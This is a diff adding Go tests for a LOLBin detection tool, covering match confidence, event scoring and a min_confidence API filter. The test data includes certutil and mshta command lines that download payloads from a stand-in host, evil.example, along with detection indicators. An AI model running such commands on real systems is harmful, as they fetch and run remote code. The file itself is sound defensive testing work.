@@ -0,0 +1,71 @@
+package main
+
+import (
+	"encoding/hex"
+	"net/http"
+	"net/http/httptest"
+	"testing"
+)
+
+func TestMatchConfidence(t *testing.T) {
+	tests := []struct {
+		name       string
+		lolbin     LOLBin
+		indicators []Indicator
+		confidence int
+	}{
+		{"whole token", LOLBin{}, []Indicator{{Type: "arg", Value: "-urlcache", Exact: true}}, ConfidenceHigh},
+		{"inside a token", LOLBin{}, []Indicator{{Type: "arg", Value: "http://"}}, ConfidenceMedium},
+		{"one of several whole", LOLBin{}, []Indicator{{Type: "arg", Value: "http://"}, {Type: "arg", Value: "-f", Exact: true}}, ConfidenceHigh},
+		{"path only", LOLBin{}, []Indicator{{Type: "path", Value: `\temp\`}}, ConfidenceMedium},
+		{"rule's own confidence", LOLBin{Confidence: 45}, []Indicator{{Type: "arg", Value: "-urlcache", Exact: true}}, 45},
+	}
+	for _, tt := range tests {
+		if got := matchConfidence(tt.lolbin, tt.indicators); got != tt.confidence {
+			t.Errorf("%s: matchConfidence() = %d, want %d", tt.name, got, tt.confidence)
+		}
+	}
+}
+
+func TestEventConfidence(t *testing.T) {
+	certutil := `C:\Windows\System32\certutil.exe`
+	tests := []struct {
+		name       string
+		executable string
+		cmdLine    string
+		confidence int
+	}{
+		{"exact argument", certutil, `certutil.exe -urlcache -split -f http://evil.example/a.exe`, ConfidenceHigh},
+		{"argument inside a URL", `C:\Windows\System32\mshta.exe`, `mshta.exe http://evil.example/a.hta`, ConfidenceMedium},
+		{"entropy only", certutil, `certutil.exe -hashfile x ` + hex.EncodeToString(randomBytes(64)), ConfidenceLow},
+		{"nothing found", certutil, `certutil.exe -hashfile C:\Windows\notepad.exe SHA256`, 0},
+	}
+	for _, tt := range tests {
+		event := evaluate(tt.executable, tt.cmdLine)
+		if event.Confidence != tt.confidence || event.Suspicious != (tt.confidence > 0) {
+			t.Errorf("%s: confidence %d, suspicious %v, want %d (%s)", tt.name, event.Confidence, event.Suspicious, tt.confidence, event.Reason)
+		}
+	}
+}
+
+func TestMinConfidenceFilter(t *testing.T) {
+	filter, err := parseEventFilter(httptest.NewRequest(http.MethodGet, "/api/events?min_confidence=60", nil))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tt := range []struct {
+		confidence int
+		passes     bool
+	}{{ConfidenceLow, false}, {ConfidenceMedium, true}, {ConfidenceHigh, true}} {
+		event := ProcessEvent{Suspicious: true, Severity: SeverityCritical, Confidence: tt.confidence}
+		if got := filter.matches(&event); got != tt.passes {
+			t.Errorf("confidence %d passes %v, want %v", tt.confidence, got, tt.passes)
+		}
+	}
+
+	for _, value := range []string{"101", "-1", "high"} {
+		if _, err := parseEventFilter(httptest.NewRequest(http.MethodGet, "/api/events?min_confidence="+value, nil)); err == nil {
+			t.Errorf("min_confidence=%s accepted", value)
+		}
+	}
+}